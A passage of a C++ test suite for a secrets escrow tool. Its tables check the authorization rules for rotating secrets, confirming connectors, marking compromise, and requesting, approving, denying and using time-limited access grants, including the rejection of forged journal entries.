    {"the owner", [](World& w) { return rotation(w, "olive", next_version(w), v2_lines()); }, nullptr},
    {"an admin of * (would learn the value)", [](World& w) { return rotation(w, "alice", next_version(w), v2_lines()); },
     "only the owner (olive) or a rotator of prod may rotate prod/db"},
    {"a custodian", [](World& w) { return rotation(w, "bob", next_version(w), v2_lines()); },
     "only the owner (olive) or a rotator of prod may rotate prod/db"},
    {"a version number that skips", [](World& w) {
       RotateItem i = next_version(w);
       i.v = 3;
       return rotation(w, "erin", i, v2_lines());
     }, "version number 3 is not 2"},
    {"a version id in use", [](World& w) {
       RotateItem i = next_version(w, k_v1);
       return rotation(w, "erin", i, {vline(k_db, k_v1)});
     }, "version id 00000000000000a1 is used"},
    {"other custodians than the secret's", [](World& w) {
       RotateItem i = next_version(w);
       i.custodians = {"bob"};
       i.threshold = 1;
       return rotation(w, "erin", i, {vline(k_db, k_v2), sh(k_db, k_v2, "bob")});
     }, "custodians and threshold are not those of prod/db"},
    {"a share for a non-custodian", [](World& w) {
       std::vector<KeyLine> l = v2_lines();
       l.push_back(sh(k_db, k_v2, "dave"));
       return rotation(w, "erin", next_version(w), l);
     }, "writes a share for dave, who is not a custodian"},
    {"fewer shares than the threshold", [](World& w) {
       return rotation(w, "erin", next_version(w), {vline(k_db, k_v2), sh(k_db, k_v2, "bob")});
     }, "writes 1 shares, fewer than the threshold 2"},
    {"no value line", [](World& w) {
       return rotation(w, "erin", next_version(w), {sh(k_db, k_v2, "bob"), sh(k_db, k_v2, "carol")});
     }, "must write exactly one value line"},
    {"a reader key for someone who is not a reader (a rotator adding recipients)", [](World& w) {
       std::vector<KeyLine> l = v2_lines();
       l.push_back(rk(k_db, 1, "dave"));
       return rotation(w, "erin", next_version(w), l);
     }, "writes a reader key for dave"},
    {"a second reader key for a holder", [](World& w) {
       std::vector<KeyLine> l = v2_lines();
       l.push_back(rk(k_db, 1, "olive"));
       return rotation(w, "erin", next_version(w), l);
     }, "writes a reader key for olive"},
    {"a top-up for a standing reader who lacks the generation", [](World& w) {
       w.run("alice", member(w, "rory", {Role::rotator}, {"prod"}));
       std::vector<KeyLine> l = v2_lines();
       l.push_back(rk(k_db, 1, "rory"));
       return rotation(w, "erin", next_version(w), l);
     }, nullptr},
    {"reusing a generation someone lost access to", [](World& w) {
       w.run("olive", ShareArgs{"dave", {ShareItem{k_db, {1}}}}, {rk(k_db, 1, "dave")});
       w.run("olive", UnshareArgs{k_db, "dave"});
       return rotation(w, "erin", next_version(w), v2_lines());
     }, "generation 1 was held by someone who lost access"},
    {"a new generation after someone lost access", [](World& w) {
       w.run("olive", ShareArgs{"dave", {ShareItem{k_db, {1}}}}, {rk(k_db, 1, "dave")});
       w.run("olive", UnshareArgs{k_db, "dave"});
       RotateItem i = next_version(w);
       i.gen = 2;
       i.new_gen_rk_commit = commit("rk2");
       std::vector<KeyLine> l = v2_lines();
       l.push_back(rk(k_db, 2, "erin"));
       l.push_back(rk(k_db, 2, "olive"));
       return rotation(w, "erin", i, l);
     }, nullptr},
    {"a new generation sealed to the unshared member", [](World& w) {
       w.run("olive", ShareArgs{"dave", {ShareItem{k_db, {1}}}}, {rk(k_db, 1, "dave")});
       w.run("olive", UnshareArgs{k_db, "dave"});
       RotateItem i = next_version(w);
       i.gen = 2;
       i.new_gen_rk_commit = commit("rk2");
       std::vector<KeyLine> l = v2_lines();
       l.push_back(rk(k_db, 2, "dave"));
       return rotation(w, "erin", i, l);
     }, "writes a reader key for dave, who may not receive generation 2"},
    {"a new generation that skips a number", [](World& w) {
       RotateItem i = next_version(w);
       i.gen = 3;
       i.new_gen_rk_commit = commit("rk3");
       return rotation(w, "erin", i, v2_lines());
     }, "a new generation must be 2"},
    {"a generation that is not the current one", [](World& w) {
       RotateItem i = next_version(w);
       i.gen = 2;
       return rotation(w, "erin", i, v2_lines());
     }, "generation 2 is not the current generation"},
    {"during a rotation", [](World& w) {
       rotating(w);
       return rotation(w, "erin", next_version(w, k_v3), {vline(k_db, k_v3), sh(k_db, k_v3, "bob"), sh(k_db, k_v3, "carol")});
     }, "a rotation of prod/db is in flight"},
    {"carrying an active grant", [](World& w) {
       approved(w);
       RotateItem i = next_version(w);
       i.grants = {GrantRef{"dave", k_req}};
       std::vector<KeyLine> l = v2_lines();
       l.push_back(gr(k_db, k_v2, "dave"));
       return rotation(w, "erin", i, l);
     }, nullptr},
    {"a grant line nobody listed", [](World& w) {
       approved(w);
       std::vector<KeyLine> l = v2_lines();
       l.push_back(gr(k_db, k_v2, "dave"));
       return rotation(w, "erin", next_version(w), l);
     }, "writes a grant key for dave, who has no listed grant"},
    {"carrying a request with one approval of two", [](World& w) {
       requested(w);
       w.run("bob", ApproveArgs{k_db, k_req, "dave", k_v1, 1, commit("dk1")}, {ap(k_db, k_v1, k_req, "bob")});
       RotateItem i = next_version(w);
       i.grants = {GrantRef{"dave", k_req}};
       std::vector<KeyLine> l = v2_lines();
       l.push_back(gr(k_db, k_v2, "dave"));
       return rotation(w, "erin", i, l);
     }, "request 0123456789abcdef is not an active grant"},
    {"carrying someone else's grant to oneself (unbound approval)", [](World& w) {
       approved(w);
       RotateItem i = next_version(w);
       i.grants = {GrantRef{"bob", k_req}};
       std::vector<KeyLine> l = v2_lines();
       l.push_back(gr(k_db, k_v2, "bob"));
       return rotation(w, "erin", i, l);
     }, "no request 0123456789abcdef by bob"},
    {"carrying an expired grant", [](World& w) {
       approved(w);
       w.now += 2 * 3600;
       RotateItem i = next_version(w);
       i.grants = {GrantRef{"dave", k_req}};
       std::vector<KeyLine> l = v2_lines();
       l.push_back(gr(k_db, k_v2, "dave"));
       return rotation(w, "erin", i, l);
     }, "request 0123456789abcdef is not an active grant"},
    {"a rollback to the previous version", [](World& w) {
       rotated(w);
       return w.entry("erin", RotateStartArgs{{rollback_item(k_v1)}});
     }, nullptr},
    {"a rollback to the current version", [](World& w) {
       rotated(w);
       return w.entry("erin", RotateStartArgs{{rollback_item(k_v2)}});
     }, "has no current version and previous version 00000000000000b2"},
    {"a rollback that writes a key line", [](World& w) {
       rotated(w);
       return w.entry("erin", RotateStartArgs{{rollback_item(k_v1)}}, {rk(k_db, 1, "dave")});
     }, "a rollback writes no key line"},
    {"a rollback by an admin", [](World& w) {
       rotated(w);
       return w.entry("alice", RotateStartArgs{{rollback_item(k_v1)}});
     }, "only the owner (olive) or a rotator of prod may rotate prod/db"},
  });
}

TEST_CASE("history authorize: confirm, rotate-finish, rotate-fail", "[history][authorize]")
{
  World manual = team();
  SecretSetArgs set;
  set.secret = k_db;
  set.connectors = std::vector<std::string>{"crm"};
  manual.run("olive", set);
  rotating(manual);
  run_table(manual, {
    {"a rotator who can read the new version confirms", [](World& w) { return w.entry("erin", ConfirmArgs{k_db, k_v2, "crm"}); }, nullptr},
    {"someone who cannot read it confirms", [](World& w) { return w.entry("dave", ConfirmArgs{k_db, k_v2, "crm"}); },
     "dave cannot read the new value"},
    {"an admin confirms", [](World& w) { return w.entry("alice", ConfirmArgs{k_db, k_v2, "crm"}); },
     "alice cannot read the new value"},
    {"twice", [](World& w) {
       w.run("erin", ConfirmArgs{k_db, k_v2, "crm"});
       return w.entry("erin", ConfirmArgs{k_db, k_v2, "crm"});
     }, "crm is confirmed already"},
    {"a connector the secret does not list", [](World& w) {
       ConnectorAddArgs c;
       c.name = "desk";
       c.env = "prod";
       c.kind = ConnectorKind::manual;
       c.instructions = "paste";
       w.run("alice", c);
       return w.entry("erin", ConfirmArgs{k_db, k_v2, "desk"});
     }, "desk is not a manual connector of prod/db"},
    {"another version", [](World& w) { return w.entry("erin", ConfirmArgs{k_db, k_v1, "crm"}); },
     "no rotation of prod/db to version 00000000000000a1 is in flight"},
    {"finishing before the manual connector is confirmed", [](World& w) { return w.entry("erin", RotateFinishArgs{{FinishItem{k_db, k_v2}}}); },
     "manual connector crm is not confirmed"},
    {"finishing after the confirmation", [](World& w) {
       w.run("erin", ConfirmArgs{k_db, k_v2, "crm"});
       return w.entry("erin", RotateFinishArgs{{FinishItem{k_db, k_v2}}});
     }, nullptr},
    {"finishing by an admin", [](World& w) {
       w.run("erin", ConfirmArgs{k_db, k_v2, "crm"});
       return w.entry("alice", RotateFinishArgs{{FinishItem{k_db, k_v2}}});
     }, "only the owner (olive) or a rotator of prod may finish a rotation"},
    {"finishing another version", [](World& w) { return w.entry("erin", RotateFinishArgs{{FinishItem{k_db, k_v3}}}); },
     "no rotation of prod/db to version 00000000000000c3 is in flight"},
    {"finishing with an added key line", [](World& w) {
       w.run("erin", ConfirmArgs{k_db, k_v2, "crm"});
       return w.entry("erin", RotateFinishArgs{{FinishItem{k_db, k_v2}}}, {rk(k_db, 1, "dave")});
     }, "adds a key line"},
    {"recording a failure", [](World& w) { return w.entry("erin", RotateFailArgs{{FailItem{k_db, k_v2, FailResult::cancelled}}}); }, nullptr},
    {"recording a failure by a custodian", [](World& w) { return w.entry("bob", RotateFailArgs{{FailItem{k_db, k_v2, FailResult::cancelled}}}); },
     "only the owner (olive) or a rotator of prod may record a failed rotation"},
    {"recording a failure of another version", [](World& w) { return w.entry("erin", RotateFailArgs{{FailItem{k_db, k_v1, FailResult::rolled_back}}}); },
     "no rotation of prod/db to version 00000000000000a1 is in flight"},
  });
}

TEST_CASE("history authorize: compromise", "[history][authorize]")
{
  const auto compromise = [](World& w, const std::string& who, std::string vid = k_v1) {
    return w.entry(who, CompromiseArgs{k_db, std::move(vid)}, {}, std::string("seen in a log"));
  };
  run_table(team(), {
    {"the owner", [&](World& w) { return compromise(w, "olive"); }, nullptr},
    {"a rotator", [&](World& w) { return compromise(w, "erin"); }, nullptr},
    {"an admin of *", [&](World& w) { return compromise(w, "alice"); }, nullptr},
    {"an admin of dev", [&](World& w) { return compromise(w, "gina"); }, "only the owner (olive), a rotator or an admin of prod"},
    {"a custodian", [&](World& w) { return compromise(w, "bob"); }, "only the owner (olive), a rotator or an admin of prod"},
    {"an unknown version", [&](World& w) { return compromise(w, "olive", k_v3); }, "prod/db has no live version 00000000000000c3"},
    {"a compromised version again", [&](World& w) {
       w.run("olive", CompromiseArgs{k_db, k_v1}, {}, std::string("x"));
       return compromise(w, "olive");
     }, "prod/db has no live version 00000000000000a1"},
  });
}

TEST_CASE("history authorize: request", "[history][authorize]")
{
  run_table(team(), {
    {"a requester of prod", [](World& w) { return request_by(w, "dave"); }, nullptr},
    {"a requester who is also an auditor", [](World& w) {
       w.run("alice", member(w, "ivy", {Role::auditor, Role::requester}, {"prod"}));
       return request_by(w, "ivy");
     }, nullptr},
    {"a pure auditor (issue 15)", [](World& w) { return request_by(w, "frank"); }, "frank does not have the requester role"},
    {"the rotator (issue 15)", [](World& w) { return request_by(w, "erin"); }, "erin does not have the requester role"},
    {"a requester who is also a rotator", [](World& w) {
       w.run("alice", member(w, "rita", {Role::requester, Role::rotator}, {"prod"}));
       return request_by(w, "rita");
     }, "a rotator may not request access"},
    {"a member of another environment", [](World& w) { return request_by(w, "paul"); }, "paul does not reach prod"},
    {"the owner, who reads it already", [](World& w) { return request_by(w, "olive"); }, "olive reads prod/db already"},
    {"a custodian the threshold needs", [](World& w) { return request_by(w, "bob"); },
     "without bob the custodians cannot reach the threshold"},
    {"a ttl over the policy", [](World& w) { return request_by(w, "dave", 9 * 3600); }, "ttl 9h is over the policy maximum of 8h for prod"},
    {"a ttl at the policy maximum", [](World& w) { return request_by(w, "dave", 8 * 3600); }, nullptr},
    {"no justification where the policy requires one", [](World& w) {
       return w.entry("dave", RequestArgs{k_db, k_req, 3600});
     }, "the policy of prod requires a justification"},
    {"no justification where the policy does not require one", [](World& w) {
       PolicySetArgs p;
       p.env = "prod";
       p.require_why = false;
       w.run("alice", p);
       return w.entry("dave", RequestArgs{k_db, k_req, 3600});
     }, nullptr},
    {"an id in use (re-signing a request as one's own)", [](World& w) {
       requested(w);
       w.run("alice", member(w, "ivy", {Role::requester}, {"prod"}));
       return request_by(w, "ivy");
     }, "request id 0123456789abcdef is used"},
    {"a secret without custodians", [](World& w) {
       SecretAddArgs a = db_args("prod/open", "00000000000000d4");
       a.custodians = {};
       a.threshold = 0;
       w.run("olive", a, {rk("prod/open", 1, "olive"), vline("prod/open", "00000000000000d4")}, std::string("x"));
       return w.entry("dave", RequestArgs{"prod/open", k_req, 3600}, {}, std::string("x"));
     }, "prod/open has no custodians"},
    {"a retired secret", [](World& w) {
       w.run("olive", RetireArgs{k_db});
       return request_by(w, "dave");
     }, "no active secret prod/db"},
    {"a secret whose current version is compromised", [](World& w) {
       w.run("olive", CompromiseArgs{k_db, k_v1}, {}, std::string("x"));
       return request_by(w, "dave");
     }, "prod/db has no current version"},
    {"a removed requester", [](World& w) {
       w.run("alice", MemberRemoveArgs{"dave"});
       return request_by(w, "dave");
     }, "dave is not an active member"},
  });
}

TEST_CASE("history authorize: approve", "[history][authorize]")
{
  World base = team();
  requested(base);
  run_table(base, {
    {"a custodian approves", [](World& w) { return approval(w, "bob"); }, nullptr},
    {"the requester approves her own", [](World& w) {
       w.run("alice", MemberSetArgs{"dave", {Role::approver, Role::requester}, {"prod"}});
       return approval(w, "dave");
     }, "dave cannot approve their own request"},
    {"an approval naming another requester (unbound approval)", [](World& w) { return approval(w, "bob", "olive"); },
     "request 0123456789abcdef is by dave, not olive"},
    {"the rotator approves", [](World& w) { return approval(w, "erin"); }, "erin may not approve requests of prod"},
    {"an approver who is not a custodian", [](World& w) {
       w.run("alice", member(w, "cody", {Role::approver}, {"prod"}));
       return approval(w, "cody");
     }, "cody holds no share of version 00000000000000a1 (not a custodian of it)"},
    {"an approver of another environment", [](World& w) {
       w.run("alice", member(w, "devon", {Role::approver}, {"dev"}));
       return approval(w, "devon");
     }, "devon may not approve requests of prod"},
    {"a wrong version number", [](World& w) { return approval(w, "bob", "dave", k_v1, 2); },
     "version 00000000000000a1 is not v2 with this key commitment"},
    {"a wrong key commitment", [](World& w) { return approval(w, "bob", "dave", k_v1, 1, commit("other")); },
     "is not v1 with this key commitment"},
    {"a version that does not exist", [](World& w) { return approval(w, "bob", "dave", k_v3); },
     "version 00000000000000c3 is not the current or previous version"},
    {"an expired request", [](World& w) {
       w.now += 3600;
       return approval(w, "bob");
     }, "request 0123456789abcdef expired"},
    {"a denied request", [](World& w) {
       w.run("carol", DenyArgs{k_db, k_req}, {}, std::string("no"));
       return approval(w, "bob");
     }, "request 0123456789abcdef is closed: it was denied by carol"},
    {"twice by one custodian", [](World& w) {
       w.run("bob", ApproveArgs{k_db, k_req, "dave", k_v1, 1, commit("dk1")}, {ap(k_db, k_v1, k_req, "bob")});
       return approval(w, "bob");
     }, "bob already approved request 0123456789abcdef"},
    {"an approval line for another approver", [](World& w) {
       return w.entry("bob", ApproveArgs{k_db, k_req, "dave", k_v1, 1, commit("dk1")}, {ap(k_db, k_v1, k_req, "carol")});
     }, "must write exactly one approval line"},
    {"no approval line", [](World& w) { return w.entry("bob", ApproveArgs{k_db, k_req, "dave", k_v1, 1, commit("dk1")}); },
     "must write exactly one approval line"},
    {"a requester removed since", [](World& w) {
       w.run("alice", MemberRemoveArgs{"dave"});
       return approval(w, "bob");
     }, "requester dave is not an active member"},
    {"the previous version after a rotation", [](World& w) {
       rotated(w);
       return approval(w, "bob");
     }, nullptr},
  });
}

TEST_CASE("history authorize: deny", "[history][authorize]")
{
  World base = team();
  requested(base);
  const auto deny = [](World& w, const std::string& who) {
    return w.entry(who, DenyArgs{k_db, k_req}, {}, std::string("not on call"));
  };
  run_table(base, {
    {"a custodian", [&](World& w) { return deny(w, "carol"); }, nullptr},
    {"the owner", [&](World& w) { return deny(w, "olive"); }, nullptr},
    {"an admin of *", [&](World& w) { return deny(w, "alice"); }, nullptr},
    {"the requester withdraws", [&](World& w) { return deny(w, "dave"); }, nullptr},
    {"the rotator (issue 15: any member authoring a denial)", [&](World& w) { return deny(w, "erin"); },
     "only a custodian, the owner, an admin of prod or the requester may deny it"},
    {"an admin of dev", [&](World& w) { return deny(w, "gina"); },
     "only a custodian, the owner, an admin of prod or the requester may deny it"},
    {"a pure auditor", [&](World& w) { return deny(w, "frank"); },
     "only a custodian, the owner, an admin of prod or the requester may deny it"},
    {"twice", [&](World& w) {
       w.run("carol", DenyArgs{k_db, k_req}, {}, std::string("no"));
       return deny(w, "olive");
     }, "request 0123456789abcdef is denied already"},
    {"after it expired", [&](World& w) {
       w.now += 3600;
       return deny(w, "carol");
     }, "request 0123456789abcdef expired"},
    {"an unknown request", [&](World& w) { return w.entry("carol", DenyArgs{k_db, "ffff"}, {}, std::string("x")); },
     "prod/db has no request ffff"},
  });
}

TEST_CASE("history authorize: grant-used", "[history][authorize]")
{
  World base = team();
  approved(base);
  run_table(base, {
    {"the requester with k approvals", [](World& w) { return w.entry("dave", GrantUsedArgs{k_db, k_req}); }, nullptr},
    {"someone else using dave's grant", [](World& w) { return w.entry("olive", GrantUsedArgs{k_db, k_req}); },
     "prod/db has no request 0123456789abcdef by olive"},
    {"twice", [](World& w) {
       w.run("dave", GrantUsedArgs{k_db, k_req});
       return w.entry("dave", GrantUsedArgs{k_db, k_req});
     }, "request 0123456789abcdef was used already"},
    {"after it expired", [](World& w) {
       w.now += 3600;
       return w.entry("dave", GrantUsedArgs{k_db, k_req});
     }, "request 0123456789abcdef is not an active grant"},
    {"after a denial", [](World& w) {
       w.run("olive", DenyArgs{k_db, k_req}, {}, std::string("changed my mind"));
       return w.entry("dave", GrantUsedArgs{k_db, k_req});
     }, "request 0123456789abcdef is not an active grant"},
    {"after an approver was removed (her approval stops counting)", [](World& w) {
       w.run("alice", MemberRemoveArgs{"carol"});
       return w.entry("dave", GrantUsedArgs{k_db, k_req});
     }, "request 0123456789abcdef is not an active grant"},
    {"after the version was compromised", [](World& w) {
       w.run("olive", CompromiseArgs{k_db, k_v1}, {}, std::string("x"));
       return w.entry("dave", GrantUsedArgs{k_db, k_req});
     }, "request 0123456789abcdef is not an active grant"},
  });
  World one = team();
  requested(one);
  one.run("bob", ApproveArgs{k_db, k_req, "dave", k_v1, 1, commit("dk1")}, {ap(k_db, k_v1, k_req, "bob")});
  run_table(one, {
    {"with one approval of two", [](World& w) { return w.entry("dave", GrantUsedArgs{k_db, k_req}); },
     "request 0123456789abcdef is not an active grant"},
  });
}

TEST_CASE("history authorize: journal-loss and resolve", "[history][authorize]")
{
  const auto loss = [](World& w, const std::string& who) {
    return w.entry(who, JournalLossArgs{{LostEntry{commit("lost"), at("2026-11-30T08:00:00Z"), "bob", "reveal"}}}, {},
                   std::string("laptop died"));
  };
  run_table(team(), {
    {"an admin of *", [&](World& w) { return loss(w, "alice"); }, nullptr},
    {"an admin of dev", [&](World& w) { return loss(w, "gina"); }, "only an admin of every environment"},
    {"twice", [&](World& w) {
       w.run("alice", JournalLossArgs{{LostEntry{commit("lost"), at("2026-11-30T08:00:00Z"), "bob", "reveal"}}}, {},
             std::string("x"));
       return loss(w, "alice");
     }, "is acknowledged already"},
    {"naming an operation (a lost operation must be restored)", [](World& w) {
       return w.entry("alice",
                      JournalLossArgs{{LostEntry{commit("lost"), at("2026-11-30T08:00:00Z"), "bob", "compromise"}}}, {},
                      std::string("x"));
     }, "is an operation: a lost operation cannot be acknowledged"},
    {"resolve of voids (judged at its merge point by the replay)", [](World& w) {
       ResolveArgs r;
       r.voided = {commit("x")};
       return w.entry("alice", r);
     }, nullptr},
    {"resolve keeping an exposed rotation (judged at its merge point: may_expose)", [](World& w) {
       ResolveArgs r;
       r.exposed = {commit("x")};
       return w.entry("alice", r);
     }, nullptr},
    {"resolve of a rotation race (judged at its merge point: may_settle_race)", [](World& w) {
       ResolveArgs r;
       r.rotations = {RaceResolution{k_db, k_v1, {{k_v2, 3}}}};
       return w.entry("alice", r);
     }, nullptr},
  });
}

TEST_CASE("history authorize: a refusal as an error for the command and for the replay", "[history][authorize]")
{
  World w = team();
  const Entry forged = w.entry("dave", SecretSetArgs{k_db, std::string("dave"), {}, {}, {}, {}, {}, {}, {}});
  try {
    require_authorized(w.state, forged, ErrorKind::access, "secret-set prod/db");
    FAIL("allowed");
  } catch (const Error& e) {
    CHECK(e.kind() == ErrorKind::access);
    CHECK(e.exit_code() == 4);
    CHECK(std::string(e.what()) == "secret-set prod/db: secret-set: only the owner (olive) or an admin of prod may change the owner");
  }
  try {
    require_authorized(w.state, forged, ErrorKind::integrity, "escrow.journal: line 12: entry abc (secret-set by dave)");
    FAIL("allowed");
  } catch (const Error& e) {
    CHECK(e.kind() == ErrorKind::integrity);
    CHECK(e.exit_code() == 3);
  }
  const Entry honest = w.entry("olive", SecretSetArgs{k_db, std::string("dave"), {}, {}, {}, {}, {}, {}, {}});
  CHECK_NOTHROW(require_authorized(w.state, honest, ErrorKind::access, "secret-set prod/db"));
}
